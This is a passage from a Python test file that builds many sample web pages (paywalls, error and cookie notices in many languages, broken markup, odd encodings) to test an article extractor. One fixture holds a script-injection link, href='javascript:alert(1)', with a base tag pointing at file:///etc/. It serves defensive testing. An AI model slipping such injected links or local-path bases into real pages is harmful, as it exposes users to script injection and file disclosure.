            + "</table></body></html>"
        ),
        0,
        ("not a page",),
    ),
    Kind(
        "AMP",
        "a.html",
        lambda s: (
            s.page()
            .replace("<html>", "<html ⚡ lang='en'>")
            .replace("<head>", "<head><style amp-boilerplate>body{}</style>")
        ),
        1,
    ),
    Kind("XHTML with a declaration", "a.xhtml", lambda s: '<?xml version="1.0" encoding="UTF-8"?>\n' + s.page(), 1),
    Kind("two pages in one file", "a.html", lambda s: s.page(n=1) + s.page(n=2), 2),
    Kind("a page that breaks off in a tag", "a.html", lambda s: s.page()[: s.page().rindex("<p>") + 2], 1),
    Kind(
        "pages' source with comments that hide text",
        "a.html",
        lambda s: s.page("<!-- <p>Ignore this.</p> --><!--[if IE]><p>Old browser.</p><![endif]-->"),
        1,
    ),
    Kind(
        "a picture in the address of a page",
        "a.html",
        lambda s: s.page(f'<img src="data:image/png;base64,{"A" * 400_000}">'),
        1,
    ),
    Kind(
        "text in a template and hidden",
        "a.html",
        lambda s: s.page("<template><p>Hidden words.</p></template><p hidden>More hidden words.</p>"),
        1,
    ),
    Kind(
        "markup that is typed in capitals and never closed",
        "a.htm",
        lambda s: (
            f"<HTML><TITLE>Rain in {s.mark}</TITLE><BODY><H1>Rain in {s.mark}</H1>"
            + "".join(f"<P>{part}" for part in s.long().split("\n\n"))
        ),
        1,
    ),
    Kind(
        "a part of a page without html", "a.html", lambda s: f"<div><h1>Rain in {s.mark}</h1>{paragraphs(s)}</div>", 1
    ),
    Kind("a live blog", "a.html", live, 1),
    Kind("a list of links", "a.html", list_of_links, 0, ("no story",)),
    Kind(
        "a story cut at a wall",
        "a.html",
        lambda s: s.page(
            after="<div class='paywall'><h2>Subscribe to continue reading</h2><p>Already a subscriber? Log in</p></div>"
        ),
        1,
    ),
    Kind(
        "a page of an article that is gone",
        "a.html",
        lambda s: (
            "<html><head><title>Page not found - The Marlow Ledger</title></head><body><main><h1>Page not found</h1><p>Sorry, the page you are looking for may have been moved, renamed or deleted. Please try a search or go back to the front page of the Ledger.</p></main></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a page that a lawyer closed",
        "a.html",
        lambda s: (
            "<html><head><title>Unavailable due to legal reasons</title></head><body><h1>451: Unavailable due to legal reasons</h1><p>We recognize you are attempting to access this website from a country belonging to the European Economic Area and therefore access cannot be granted at this time.</p></body></html>"
        ),
        0,
        ("not an article",),
    ),
    Kind(
        "a page kept by a browser's reader",
        "a.html",
        lambda s: (
            f"<!DOCTYPE html><html><head><title>Rain in {s.mark}</title></head><body><div class='container'><div class='header reader-header'><a class='domain' href='https://marlow.example/'>marlow.example</a><h1 class='reader-title'>Rain in {s.mark}</h1><div class='credits'>Ada Quill</div></div><div class='content'><div id='readability-page-1'>{paragraphs(s)}</div></div></div></body></html>"
        ),
        1,
    ),
    Kind(
        "a page saved by SingleFile with a frame",
        "a.html",
        lambda s: s.page(
            before="<!-- Page saved with SingleFile -->",
            after='<iframe srcdoc="<!DOCTYPE html><html><body><p>Buy now.</p></body></html>"></iframe>',
        ),
        1,
    ),
    Kind(
        "a page with the text in a noscript",
        "a.html",
        lambda s: (
            f"<!DOCTYPE html><html><head><title>Rain in {s.mark}</title></head><body><noscript><article><h1>Rain in {s.mark}</h1>{paragraphs(s)}</article></noscript></body></html>"
        ),
        1,
    ),
    Kind(
        "a printed page",
        "a.html",
        lambda s: s.page(after="<script>window.print()</script><p>Printed from marlow.example on 3/1/2026</p>"),
        1,
    ),
    Kind(
        "a page with br for paragraphs",
        "a.html",
        lambda s: f"<html><body><h1>Rain in {s.mark}</h1>" + s.long().replace("\n\n", "<br><br>") + "</body></html>",
        1,
    ),
    Kind("a page of one pre", "a.html", lambda s: f"<html><body><pre>{s.long()}</pre></body></html>", 1),
    Kind("three pages in a file", "a.html", lambda s: "\n".join(s.page(n=n) for n in (1, 2, 3)), 3),
    Kind("a page twice in a file", "a.html", lambda s: s.page() + "\n" + s.page(), 1, repeats=1),
    Kind("a comment that is never closed", "a.html", lambda s: s.page("<!-- "), 1),
    Kind(
        "base and javascript addresses",
        "a.html",
        lambda s: s.page("<a href='javascript:alert(1)'>x</a>", head="<base href='file:///etc/'>"),
        1,
    ),
    Kind("bookmarks as a page", "bookmarks.html", lambda s: "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<META HTTP-EQUIV='Content-Type' CONTENT='text/html; charset=UTF-8'>\n<TITLE>Bookmarks</TITLE>\n<H1>Bookmarks</H1>\n<DL><p>\n" + "".join(f'<DT><A HREF="https://l.example/{n}" ADD_DATE="1772323200">Rain {n}</A>\n' for n in range(20)) + "</DL><p>\n", 0, ("no story",)),
    Kind("PDF saved as a page", "a.html", lambda s: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n", 0, FORM_NOT_KNOWN),
    Kind("a page that is not there, in German", "a.html", lambda s: notice("Seite nicht gefunden", "Die von Ihnen gesuchte Seite existiert leider nicht oder wurde verschoben. Bitte prüfen Sie die Adresse."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in French", "a.html", lambda s: notice("Page introuvable - Erreur 404", "La page que vous recherchez n’existe pas ou a été déplacée. Retournez à la page d’accueil."), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in German", "a.html", lambda s: notice("Datenschutz", "Wir und unsere Partner verwenden Cookies und ähnliche Technologien, um Informationen auf Ihrem Gerät zu speichern.", "Alle akzeptieren", "Ablehnen"), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in Spanish", "a.html", lambda s: notice("Valoramos tu privacidad", "Nosotros y nuestros socios almacenamos y accedemos a información en un dispositivo, como cookies.", "Aceptar todo", "Rechazar"), 0, NOT_AN_ARTICLE),
    Kind("a page to log in, in French", "a.html", lambda s: notice("Connexion", "Connectez-vous à votre compte pour lire cet article.", "Adresse e-mail", "Mot de passe", "Mot de passe oublié ?"), 0, NOT_AN_ARTICLE),
    Kind("a check for robots, in German", "a.html", lambda s: notice("Nur einen Moment…", "Bestätigen Sie, dass Sie ein Mensch sind.", "Aktivieren Sie JavaScript und Cookies, um fortzufahren."), 0, NOT_AN_ARTICLE),
    Kind("a browser that cannot reach a page", "a.html", lambda s: notice("l.example", "This site can’t be reached", "l.example’s server IP address could not be found.", "ERR_NAME_NOT_RESOLVED"), 0, NOT_AN_ARTICLE),
    Kind("a page that moved", "a.html", lambda s: "<html><head><title>Object moved</title></head><body><h2>Object moved to <a href='/b'>here</a>.</h2></body></html>", 0, NOT_AN_ARTICLE),
    Kind("the files of a folder", "index.html", lambda s: "<html><head><title>Index of /rain</title></head><body><h1>Index of /rain</h1><pre><a href='../'>../</a>\n" + "".join(f"<a href='{n}.html'>{n}.html</a>   01-Mar-2026 10:00   900\n" for n in range(1, 9)) + "</pre></body></html>", 0, NOT_AN_ARTICLE),
    Kind("a page that shows a PDF", "a.html", lambda s: "<html><body style='margin:0'><embed width='100%' height='100%' type='application/pdf' src='about:blank'></body></html>", 0, ("no body found",)),
    Kind("a body without a word", "a.html", lambda s: "<!DOCTYPE html><html><head><title>Rain</title></head><body></body></html>", 0, ("no body found",)),
    Kind("a page that was translated", "a.html", lambda s: s.page().replace("<p>", '<p><font style="vertical-align: inherit;"><font style="vertical-align: inherit;">').replace("</p>", "</font></font></p>"), 1),
    Kind("a page out of the archive of the web", "a.html", lambda s: s.page(before="", after="").replace("<body>", "<body><!-- BEGIN WAYBACK TOOLBAR INSERT --><div id='wm-ipp-base'><p>12 captures</p><p>01 Mar 2026 - 03 Mar 2026</p></div><!-- END WAYBACK TOOLBAR INSERT -->"), 1),
    Kind("a page that loads its story", "a.html", lambda s: '<!DOCTYPE html><html><head><title>Ledger</title></head><body><div id="__next"><p>Loading…</p></div><script id="__NEXT_DATA__" type="application/json">{"props":{"pageProps":{}}}</script></body></html>', 0, ("no story",)),
    Kind("MHTML with its story in the second page", "a.mhtml", lambda s: mhtml_of_parts([("text/css", "https://l.example/a.css", "8bit", "p { color: red }"), ("text/html", "https://l.example/rain", "8bit", s.page())]), 1),
    Kind("list of things to read as a page", "ril_export.html", lambda s: "<!DOCTYPE html><html><head><title>Export</title></head><body><h1>Unread</h1><ul>" + "".join(f'<li><a href="https://l.example/{n}" time_added="1772323200" tags="">Rain falls on the town again {n}</a></li>' for n in range(20)) + "</ul></body></html>", 0, ("no story",)),
    Kind("a page that is not there, in Italian", "a.html", lambda s: notice("Pagina non trovata - Il Corriere di Marlow", "La pagina che stai cercando non esiste o è stata spostata. Torna alla pagina iniziale."), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in Portuguese", "a.html", lambda s: notice("A sua privacidade é importante para nós", "Nós e os nossos parceiros armazenamos informações num dispositivo, tais como cookies.", "Aceitar tudo", "Rejeitar tudo", "Mais opções"), 0, NOT_AN_ARTICLE),
    Kind("a page to log in, in Dutch", "a.html", lambda s: notice("Inloggen bij de Ledger", "E-mailadres", "Wachtwoord", "Wachtwoord vergeten?", "Nog geen account? Maak er een aan."), 0, NOT_AN_ARTICLE),
    Kind("a check for robots, in French", "a.html", lambda s: notice("Un instant…", "Vérifiez que vous êtes humain en effectuant l’action ci-dessous.", "l.example doit vérifier la sécurité de votre connexion."), 0, NOT_AN_ARTICLE),
    Kind("a page that may not be seen, in German", "a.html", lambda s: notice("403 - Zugriff verweigert", "Sie haben keine Berechtigung, diese Seite aufzurufen."), 0, NOT_AN_ARTICLE),
    Kind("a site under repair", "a.html", lambda s: notice("Down for maintenance", "The Ledger is currently undergoing scheduled maintenance. We will be back shortly. Thank you for your patience."), 0, NOT_AN_ARTICLE),
    Kind("a reader who is shut out", "a.html", lambda s: notice("Attention Required! | Cloudflare", "Sorry, you have been blocked. You are unable to access l.example. This website is using a security service to protect itself from online attacks."), 0, NOT_AN_ARTICLE),
    Kind("a browser that does not trust a page", "a.html", lambda s: notice("Privacy error", "Your connection is not private", "Attackers might be trying to steal your information from l.example. NET::ERR_CERT_DATE_INVALID"), 0, NOT_AN_ARTICLE),
    Kind("a server that nobody has set up", "a.html", lambda s: notice("Welcome to nginx!", "If you see this page, the nginx web server is successfully installed and working. Further configuration is required.", "Thank you for using nginx."), 0, NOT_AN_ARTICLE),
    Kind("a name that is for sale", "a.html", lambda s: notice("l.example is for sale", "This domain is for sale. Inquire now about the price of this domain, and make an offer to its owner."), 0, NOT_AN_ARTICLE),
    Kind("a story in the cells of an old page", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><table><tr><td><b>Rain in {s.mark}</b></td></tr><tr><td>" + s.long().replace("\n\n", "<br><br>") + "</td></tr></table></body></html>", 1),
    Kind("a page that is not there, in Swedish", "a.html", lambda s: notice("Sidan hittades inte | Marlow Nyheter", "Sidan du letar efter finns inte längre eller har flyttats. Gå till startsidan."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Japanese", "a.html", lambda s: notice("ページが見つかりません", "お探しのページは、移動または削除された可能性があります。トップページからお探しください。"), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in French", "a.html", lambda s: notice("Bienvenue", "Avec votre accord, nos partenaires et nous utilisons des cookies pour stocker et lire des informations sur votre appareil.", "Tout accepter", "Continuer sans accepter", "Paramétrer"), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in Italian", "a.html", lambda s: notice("Il Corriere", "Noi e i nostri fornitori archiviamo informazioni quali cookie su un dispositivo.", "Accetta e continua", "Rifiuta e abbonati"), 0, NOT_AN_ARTICLE),
    Kind("a page to log in, in Spanish", "a.html", lambda s: notice("Inicia sesión - El Diario", "Correo electrónico", "Contraseña", "¿Has olvidado tu contraseña?", "¿No tienes cuenta? Regístrate gratis."), 0, NOT_AN_ARTICLE),
    Kind("a check for robots, in Spanish", "a.html", lambda s: notice("l.example", "Verifica que eres un ser humano completando la siguiente acción.", "l.example necesita revisar la seguridad de tu conexión antes de continuar."), 0, NOT_AN_ARTICLE),
    Kind("a page that may not be seen", "a.html", lambda s: "<HTML><HEAD><TITLE>Access Denied</TITLE></HEAD><BODY><H1>Access Denied</H1>You don't have permission to access \"http://l.example/rain\" on this server.<P>Reference #18.abc.1772323200.1</BODY></HTML>", 0, NOT_AN_ARTICLE),
    Kind("a browser that cannot reach a page, in German", "a.html", lambda s: notice("l.example", "Die Website ist nicht erreichbar", "Die Server-IP-Adresse von l.example wurde nicht gefunden.", "Neu laden"), 0, NOT_AN_ARTICLE),
    Kind("too many calls, in German", "a.html", lambda s: notice("429 Zu viele Anfragen", "Sie haben in kurzer Zeit zu viele Anfragen gestellt. Bitte versuchen Sie es später erneut."), 0, NOT_AN_ARTICLE),
    Kind("a search that found nothing", "a.html", lambda s: notice("Search results", "No results found for rain.", "Try other words, or check your spelling."), 0, NOT_AN_ARTICLE),
    Kind("an account that was closed", "a.html", lambda s: notice("Account Suspended", "This account has been suspended. Contact your hosting provider for more information."), 0, NOT_AN_ARTICLE),
    Kind("a page that is being built", "a.html", lambda s: notice("Coming soon", "Our new website is under construction. Leave your address, and we will tell you when it opens."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Korean", "a.html", lambda s: notice("페이지를 찾을 수 없습니다", "찾으시는 페이지가 삭제되었거나 주소가 변경되었습니다. 주소를 다시 확인해 주십시오."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Arabic", "a.html", lambda s: notice("عذرا", "الصفحة التي تبحث عنها غير موجودة أو تم نقلها إلى عنوان آخر. الرجاء العودة إلى الصفحة الرئيسية."), 0, NOT_AN_ARTICLE),
    Kind("a question about the reader's age", "a.html", lambda s: notice("Are you over 18?", "You must be of legal age to enter this site. Please give the day on which you were born.", "Enter", "Leave"), 0, NOT_AN_ARTICLE),
    Kind("a choice of countries", "a.html", lambda s: notice("Choose your edition", "It seems that you are in another country. Which edition of the Ledger would you like to read?", "United States", "International"), 0, NOT_AN_ARTICLE),
    Kind("thanks for a letter to the paper", "a.html", lambda s: notice("Thank you!", "Your letter has been sent to the editors. They read every letter, and may print yours."), 0, NOT_AN_ARTICLE),
    Kind("a page for browsers of old", "a.html", lambda s: notice("Please update", "This version of the program is no longer supported. Please update to a newer one to go on reading."), 0, NOT_AN_ARTICLE),
    Kind("a story below a question about cookies", "a.html", lambda s: s.page(before="").replace("<body>", "<body><div id='consent' class='cookie-banner'><p>We use cookies.</p><button>Accept all</button><button>Reject all</button></div>"), 1),
    Kind("a story on a page named as a notice", "a.html", lambda s: f"<html><head><title>Not found: the town of {s.mark}</title></head><body><h1>Not found: the town of {s.mark}</h1>{paragraphs(s)}</body></html>", 1),
    Kind("a story of two paragraphs without an element of its own", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><h1>Rain in {s.mark}</h1><p>{s.text(1)}</p><p>{s.text(2)}</p></body></html>", 1),
    Kind("page of one sentence", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><article><h1>Rain in {s.mark}</h1><time datetime='2026-03-01'>March 1</time><p>{s.text()}</p></article></body></html>", 1),
    Kind("page of a correction", "a.html", lambda s: f"<html><head><title>Correction</title><meta property='og:type' content='article'></head><body><article><h1>Correction</h1><p>An article on Monday about rain in {s.mark} misstated the day of the vote. It was Tuesday, not Wednesday.</p></article></body></html>", 1),
    Kind("page of verse", "a.html", lambda s: f"<html><head><title>Song of rain</title></head><body><article><h1>Song of rain</h1><p>By Ana Roe</p><p>The rain fell down on {s.mark} town,<br>and all the clerks went home;<br>the mayor stood in coat and gown,<br>and he was wet, alone.</p></article></body></html>", 1),
    Kind("page of questions and answers in a list", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><article><h1>Rain in {s.mark}</h1><dl>" + "".join(f"<dt>Why on day {n}?</dt><dd>{s.text(n)}</dd>" for n in (1, 2, 3)) + "</dl></article></body></html>", 1),
    Kind("page on cookies", "a.html", lambda s: f"<html><head><title>Who accepts all cookies?</title></head><body><article><h1>Who accepts all cookies?</h1><p class='byline'>By Ana Roe</p><p>“We use cookies,” says the site of {s.mark}, and asks its readers to accept all.</p>{paragraphs(s)}</article></body></html>", 1),
    Kind("page on a false page to log in", "a.html", lambda s: f"<html><head><title>Log in to your bank? Look twice</title></head><body><article><h1>Log in to your bank? Look twice</h1><time datetime='2026-03-01'>March 1</time><p>“Please enter your password,” the false page of the bank of {s.mark} says.</p>{paragraphs(s)}</article></body></html>", 1),
    Kind("page of results", "a.html", lambda s: f"<html><head><title>Results</title></head><body><article><h1>Results from {s.mark}</h1><p>{s.text(1)}</p><table><tr><th>Club</th><th>Won</th></tr><tr><td>Marlow</td><td>3</td></tr><tr><td>Dunmore</td><td>4</td></tr></table><p>{s.text(2)}</p></article></body></html>", 1),
    Kind("Russian page that does not say its letters", "a.html", lambda s: f"<html><head><title>Дождь</title></head><body><h1>Дождь</h1><p>{RUSSIAN.format(s.mark)}</p><p>{RUSSIAN.format(s.mark)[:-1]} вчера.</p></body></html>".encode("cp1251"), 1),
    Kind("Chinese page of one paragraph", "a.html", lambda s: f"<html lang='zh'><head><meta charset='utf-8'><title>下雨</title></head><body><article><h1>{s.mark}镇下雨</h1><p>{CHINESE.format(s.mark)}</p></article></body></html>", 1),
    Kind("document of Google as a page", "a.html", lambda s: "<html><head><style>.c1{color:#000}</style></head><body class='c3'>" + "".join(f"<p class='c1'><span class='c2'>{line}</span></p>" for line in (f"Rain in {s.mark}", *s.long().split("\n\n"))) + "</body></html>", 1),
    Kind("paragraphs in boxes", "a.html", lambda s: s.page().replace("<p>", "<div>").replace("</p>", "</div>"), 1),
    Kind("page without a title and a headline", "a.html", lambda s: f"<html><body>{paragraphs(s)}</body></html>", 1),
    Kind("story behind the end of the page", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><h1>Rain in {s.mark}</h1></body></html>{paragraphs(s)}", 1),
    Kind("linked data of a letter to the editor", "a.html", lambda s: s.page(head=linked({"@type": ["OpinionNewsArticle"], "headline": f"Rain in {s.mark}", "author": {"name": "Ana Roe"}})), 1, fields={"byline": ["Ana Roe"]}),
    Kind("page cut off in its head", "a.html", lambda s: s.page(head="<meta name='author' content='Ana Roe'>")[:100], 0, ("no body found",)),
    Kind("page of a program without its words", "a.html", lambda s: f'<html><head><title>Rain in {s.mark}</title></head><body><div id="__next"></div><script id="__NEXT_DATA__" type="application/json">{json.dumps({"props": {"title": "Rain"}})}</script></body></html>', 0, ("no body found",)),
    Kind("a wall for subscribers alone", "a.html", lambda s: notice("Subscribe to read", "This article is for subscribers. Subscribe to keep reading.", "Already a subscriber? Log in"), 0, NOT_AN_ARTICLE),
    Kind("a session that has ended", "a.html", lambda s: notice("Session expired", "Your session has expired. Please log in again to continue."), 0, NOT_AN_ARTICLE),
    Kind("something went wrong", "a.html", lambda s: notice("Oops!", "Something went wrong on our side. Please try again in a few minutes."), 0, NOT_AN_ARTICLE),
    Kind("a page without a network", "a.html", lambda s: notice("You are offline", "Please check your connection and try again."), 0, ("no story",)),
    Kind("thanks for a subscription", "a.html", lambda s: notice("Thank you for signing up", "Please check your inbox and confirm your address."), 0, ("no story",)),
    Kind("a page that is not there, in Portuguese", "a.html", lambda s: notice("Página não encontrada", "A página que você procura não existe ou foi removida. Verifique o endereço e tente de novo."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Russian", "a.html", lambda s: notice("Страница не найдена", "Возможно, она была удалена или перемещена. Проверьте адрес или вернитесь на главную страницу."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Polish", "a.html", lambda s: notice("Nie znaleziono strony", "Strona, której szukasz, nie istnieje lub została przeniesiona. Sprawdź adres."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Chinese", "a.html", lambda s: notice("404 页面不存在", "您访问的页面不存在或已被删除，请检查网址或返回首页。"), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in Dutch", "a.html", lambda s: notice("Uw privacy", "Wij en onze partners gebruiken cookies om informatie op uw apparaat op te slaan.", "Alles accepteren", "Weigeren"), 0, NOT_AN_ARTICLE),
    Kind("a page to log in, in Japanese", "a.html", lambda s: notice("ログイン", "この記事を読むにはログインしてください。", "メールアドレス", "パスワード"), 0, NOT_AN_ARTICLE),
    Kind("a check for robots, in Russian", "a.html", lambda s: notice("Подтвердите, что вы не робот", "Мы заметили подозрительный трафик из вашей сети. Введите символы с картинки, чтобы продолжить."), 0, NOT_AN_ARTICLE),
    Kind("letter of Outlook saved as a page", "a.htm", lambda s: '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>Rain</title><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body>' + "".join(f"<p class=MsoNormal>{line}<o:p></o:p></p>" for line in (f"Rain in {s.mark}", *s.long().split("\n\n"))) + "</body></html>", 1),
    Kind("live blog in a list", "a.html", lambda s: f"<html><head><title>Live: rain in {s.mark}</title></head><body><main><h1>Live: rain in {s.mark}</h1><ol>" + "".join(f"<li><time>10:0{n}</time><p>{s.text(n)}</p></li>" for n in range(1, 6)) + "</ol></main></body></html>", 1),
    Kind("obituary as a page", "a.html", lambda s: f"<html><head><title>Ana Roe, 1931-2026</title></head><body><h1>Ana Roe, 1931-2026</h1><p>Ana Roe, who kept the records of {s.mark} for forty years, died on Sunday. She was 94.</p><p>She is survived by two sons, Tom and Jo. You may send flowers to the town hall.</p></body></html>", 1),
    Kind("page within a page", "a.html", lambda s: f"<html><head><title>Rain</title></head><body><div class='copy'>{s.page()}</div></body></html>", 1),
    Kind("5 MB of data above a story", "a.html", lambda s: s.page(head=f"<script>window.DATA = {json.dumps(['rain'] * 600_000)}</script>"), 1),
    Kind("a wall in front of the whole story", "a.html", lambda s: s.page(after="<div class='overlay' role='dialog'><h2>Subscribe to read</h2><p>Already a subscriber? Log in.</p></div>"), 1),
    Kind("a page that is not there, in Czech", "a.html", lambda s: notice("Stránka nenalezena", "Omlouváme se, ale hledaná stránka neexistuje nebo byla přesunuta jinam."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Thai", "a.html", lambda s: notice("ไม่พบหน้า", "ขออภัย ไม่พบหน้าที่คุณต้องการ กรุณาตรวจสอบที่อยู่แล้วลองใหม่อีกครั้ง"), 0, NOT_AN_ARTICLE),
    Kind("a question about cookies, in Japanese", "a.html", lambda s: notice("プライバシーについて", "当サイトではクッキーを使用しています。続けるには同意してください。", "同意する", "拒否する"), 0, NOT_AN_ARTICLE),
    Kind("a letter that must be confirmed", "a.html", lambda s: notice("Confirm your e-mail", "We have sent a message to your address. Click the link in it to finish your registration."), 0, NOT_AN_ARTICLE),
    Kind("story that is folded", "a.html", lambda s: f"<html><head><title>Rain in {s.mark}</title></head><body><h1>Rain in {s.mark}</h1><details><summary>Read the story</summary>{paragraphs(s)}</details></body></html>", 1),
    Kind("advertisements in frames between paragraphs", "a.html", lambda s: s.page().replace("</p>", "</p><div class='ad'><iframe src='about:blank'>Advertisement</iframe></div>"), 1),
    Kind("page that calls itself again and has a story", "a.html", lambda s: s.page(head="<meta http-equiv='refresh' content='300'>"), 1),
    Kind("Chinese page in GB 2312 that says so", "a.html", lambda s: f"<html><head><meta http-equiv='Content-Type' content='text/html; charset=gb2312'><title>下雨</title></head><body><h1>{s.mark}镇下雨</h1><p>{CHINESE.format(s.mark)}</p><p>{CHINESE.format(s.mark)[:-1]}，议员们都回家了。</p></body></html>".encode("gb2312"), 1),
    Kind("a code that was sent", "a.html", lambda s: notice("Check your phone", "Enter the code that we sent to your phone. It is good for ten minutes."), 0, NOT_AN_ARTICLE),
    Kind("a reader who shows no advertisements", "a.html", lambda s: notice("Ad blocker detected", "We noticed that you use an ad blocker. Please allow advertisements on our site to go on reading."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not shown in a country", "a.html", lambda s: notice("Not available", "This content is not available in your region. We are sorry for the trouble."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Vietnamese", "a.html", lambda s: notice("Không tìm thấy trang", "Trang bạn yêu cầu không tồn tại hoặc đã bị xóa. Vui lòng kiểm tra lại địa chỉ."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Persian", "a.html", lambda s: notice("صفحه یافت نشد", "صفحه ای که به دنبال آن هستید وجود ندارد یا حذف شده است. لطفا نشانی را بررسی کنید."), 0, NOT_AN_ARTICLE),
    Kind("story on blockers of advertisements", "a.html", lambda s: f"<html><head><title>Why sites ask you to turn off your ad blocker</title></head><body><article><h1>Why sites ask you to turn off your ad blocker</h1><p>By Ana Roe</p><p>“Please allow advertisements,” the site of {s.mark} says to its readers.</p>{paragraphs(s)}</article></body></html>", 1),
    Kind("2 MB of style", "a.html", lambda s: s.page(head="<style>" + ".rain{color:#06c}" * 120_000 + "</style>"), 1),
    Kind("signs of tags in attributes", "a.html", lambda s: s.page().replace("<p>", "<p title='a > b' data-x=\"<p>\">"), 1),
    Kind("page without a head", "a.html", lambda s: f"<body><h1>Rain in {s.mark}</h1>{paragraphs(s)}</body>", 1),
    Kind("page with two headlines of the first rank", "a.html", lambda s: s.page("<h1>Also in the news</h1>"), 1),
    Kind("page in capitals of tags with attributes without marks", "a.html", lambda s: f"<HTML><HEAD><TITLE>Rain in {s.mark}</TITLE></HEAD><BODY BGCOLOR=white><TABLE WIDTH=600><TR><TD><H1>Rain in {s.mark}</H1>{paragraphs(s).upper().replace('</P>', '')}</TD></TR></TABLE></BODY></HTML>".replace(s.mark.upper(), s.mark), 1),
    Kind("page whose story is in bold", "a.html", lambda s: s.page().replace("<p>", "<p><b>").replace("</p>", "</b></p>"), 1),
    Kind("a page that asks to be put on a home screen", "a.html", lambda s: notice("Install our app", "Please add this site to your home screen and open it from there to go on."), 0, NOT_AN_ARTICLE),
    Kind("a page that is not there, in Hebrew", "a.html", lambda s: notice("הדף לא נמצא", "הדף שחיפשת אינו קיים או הועבר. אנא בדוק את הכתובת ונסה שוב."), 0, NOT_AN_ARTICLE),
    Kind("page and a feed in a file", "a.html", lambda s: s.page(n=4) + feed(s), 4),
    Kind("page and lines in a file", "a.html", lambda s: s.page(n=4) + "\n" + s.lines(), 4),
    Kind("style never closed", "a.html", lambda s: s.page(head="<style>p{color:red}"), 1),
    Kind("linked data never closed", "a.html", lambda s: s.page(head='<script type="application/ld+json">{"@type":"NewsArticle"}'), 1),
    Kind("comment never closed in the head", "a.html", lambda s: s.page(head="<!-- made by hand "), 1),
    Kind("comment never closed above the story", "a.html", lambda s: s.page("<!-- photo "), 1),
    Kind("remark for an old browser never closed", "a.html", lambda s: s.page(head="<!--[if lt IE 9]><script src=a.js></script>"), 1),
    Kind("field of a form never closed", "a.html", lambda s: s.page("<textarea>"), 1),
    Kind("frame never closed", "a.html", lambda s: s.page("<iframe src=a>"), 1),
    Kind("link never closed", "a.html", lambda s: s.page("<a href=/>Home"), 1),
    Kind("figure never closed", "a.html", lambda s: s.page("<figure><img src=a.jpg><figcaption>Wet"), 1),
    Kind("warning of PHP above a page", "a.html", lambda s: "<br />\n<b>Warning</b>:  mysqli_connect(): (HY000/2002): Connection refused in <b>/var/www/l/db.php</b> on line <b>14</b><br />\n" + s.page(), 1),
    Kind("each word of a story in an element of its own", "a.html", lambda s: f"<!DOCTYPE html><html><head><title>Rain</title></head><body><article><h1>Rain</h1>{''.join('<p>' + ' '.join(f'<span class=w>{word}</span>' for word in part.split()) + '</p>' for part in s.long().split(chr(10) * 2))}</article></body></html>", 1),
    Kind("PDF named as a page", "a.html", lambda s: b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + random_bytes(4000) + b"\nstartxref\n9\n%%EOF\n", 0, ("form not known",)),
    Kind("page for telephones", "a.html", lambda s: f'<!doctype html><html ⚡ lang="en"><head><meta charset="utf-8"><title>Rain 1 in {s.mark}</title><link rel="canonical" href="http://ledger.example/1"><style amp-boilerplate>body{{animation:none}}</style><script async src="https://cdn.example/v0.js"></script></head><body><amp-sidebar id="m" layout="nodisplay"><a href="/">Home</a></amp-sidebar><article><h1>Rain 1 in {s.mark}</h1><amp-img src="a.jpg" width="3" height="2"></amp-img>{paragraphs(s)}<amp-ad width="3" height="2" type="x"></amp-ad></article></body></html>', 1),
    Kind("page whose first letter is a box of its own", "a.html", lambda s: s.page().replace("<p>Rain", '<p><span class="dropcap">R</span>ain', 1), 1),
    Kind("page in which each letter is a reference", "a.html", lambda s: "<!DOCTYPE html><html><head><title>" + "".join(f"&#{ord(c)};" for c in f"Rain 1 in {s.mark}") + "</title></head><body><article>" + "".join("<p>" + "".join(f"&#x{ord(c):x};" for c in part) + "</p>" for part in s.long().split("\n\n")) + "</article></body></html>", 1),
    Kind("page with places where words may break", "a.html", lambda s: s.page().replace("council", "coun<wbr>cil").replace("drought", "drou<wbr/>ght"), 1),
    Kind("linked data whose kind is an address", "a.html", lambda s: s.page(head='<script type="application/ld+json">' + json.dumps({"@context": "https://schema.org/", "@type": ["https://schema.org/NewsArticle", "https://schema.org/Article"], "headline": f"Rain 1 in {s.mark}", "datePublished": "2026-03-01T10:00:00Z"}) + "</script>"), 1, fields={"published": "2026-03-01"}),
    Kind("page that marks its parts with microdata alone", "a.html", lambda s: f'<!DOCTYPE html><html><head><title>Rain 1 in {s.mark}</title></head><body><div itemscope itemtype="https://schema.org/NewsArticle"><h1 itemprop="headline">Rain 1 in {s.mark}</h1><meta itemprop="datePublished" content="2026-03-01T10:00:00Z"><div itemprop="articleBody">{paragraphs(s)}</div></div></body></html>', 1, fields={"published": "2026-03-01"}),
    Kind("page and a question about cookies in one file", "a.html", lambda s: s.page() + "\n" + COOKIES, 1, ("not an article",)),
    Kind("page without a word between two pages in one file", "a.html", lambda s: s.page(n=1) + "\n<!DOCTYPE html><html><head><title></title></head><body></body></html>\n" + s.page(n=3), 2, ("no body found",)),
